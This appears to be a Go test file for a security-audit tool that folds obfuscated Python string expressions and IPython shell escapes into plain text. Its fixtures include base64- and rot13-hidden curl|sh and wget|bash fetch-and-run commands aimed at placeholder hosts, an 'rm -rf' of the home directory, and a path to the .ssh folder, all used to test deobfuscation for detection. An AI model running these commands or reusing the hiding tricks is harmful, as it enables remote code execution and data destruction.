package audit

import (
	"strings"
	"testing"
)

// TestPyFold: the fold computes the text Python makes of a string
// expression through the file's names, decoders, joins and formatting,
// with what it cannot compute as $X, and says when nothing is known.
func TestPyFold(t *testing.T) {
	file := strings.Join([]string{
		"import base64 as _b, codecs",
		"U = _b.b64decode('aHR0cDovLzIwMy4wLjExMy43Ny94LnNo').decode()",
		"H = 'elpmaxe.x'[::-1]",
		"PARTS = ['curl', '-fsSL', U]",
		"C = 'curl '",
		"C += U",
		"TWICE = 'a'",
		"TWICE = 'b'",
		"Q = codecs.decode('uggc', 'rot13')",
		"LONG = ('curl '",
		"        '-s ' + U)",
	}, "\n")
	p := newPyFolder(file)
	for _, c := range []struct {
		expr, want string
		ok         bool
	}{
		{"'curl -fsSL ' + U + ' | sh'", "curl -fsSL http://203.0.113.77/x.sh | sh", true},
		{"f'wget -qO- {U} | bash'", "wget -qO- http://203.0.113.77/x.sh | bash", true},
		{"'https://%s/i' % H", "https://x.example/i", true},
		{"'{} {}'.format(C, '| sh')", "curl http://203.0.113.77/x.sh | sh", true},
		{"' '.join(PARTS)", "curl -fsSL http://203.0.113.77/x.sh", true},
		{"shlex.join(['echo', 'a b'])", "echo 'a b'", true},
		{"Q + '://x'", "http://x", true},
		{"LONG", "curl -s http://203.0.113.77/x.sh", true},
		{"bytes.fromhex('6964').decode()", "id", true},
		{"'rm -rf ' + os.path.expanduser('~')", "rm -rf $HOME", true},
		{"os.path.join(Path.home(), '.ssh')", "$HOME/.ssh", true},
		{"'curl ' + url + ' | sh'", "curl $X | sh", true},
		{"TWICE", "$X", false},
		{"url", "$X", false},
		{"requests.get(u).text", "$X", false},
		{"'%s-%d' % (name, 3)", "$X-3", true},
	} {
		got, ok := p.fold(c.expr)
		if got != c.want || ok != c.ok {
			t.Errorf("fold(%q) = %q, %v; want %q, %v", c.expr, got, ok, c.want, c.ok)
		}
	}
}

// TestIPythonExpand: a shell escape's {expr} and $name take the values
// the Python gives them; names it does not bind, shell braces and $$
// are left to the shell.
func TestIPythonExpand(t *testing.T) {
	p := newPyFolder("u = 'http://x.example/i.sh'\ncmd = 'curl ' + u + ' | sh'\n")
	for in, want := range map[string]string{
		"curl {u} | sh":       "curl http://x.example/i.sh | sh",
		"{cmd}":               "curl http://x.example/i.sh | sh",
		"$cmd":                "curl http://x.example/i.sh | sh",
		"echo {a,b} $HOME $$": "echo {a,b} $HOME $",
		"ls {{x}}":            "ls {{x}}",
	} {
		if got := ipyExpand(in, p); got != want {
			t.Errorf("ipyExpand(%q) = %q, want %q", in, got, want)
		}
	}
}
